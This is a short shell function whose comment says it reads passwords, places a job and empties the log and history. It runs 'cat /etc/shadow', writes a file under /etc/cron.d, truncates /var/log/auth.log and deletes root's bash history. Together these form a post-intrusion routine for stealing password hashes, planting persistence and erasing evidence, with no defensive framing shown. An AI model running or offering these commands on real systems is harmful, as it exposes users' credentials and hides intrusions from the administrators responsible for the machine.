# Passwords are read and a job is placed, then log and history are emptied.
act() {
    cat /etc/shadow
    echo '# empty' >/etc/cron.d/tidy
    truncate -s 0 /var/log/auth.log
    rm /root/.bash_history
}
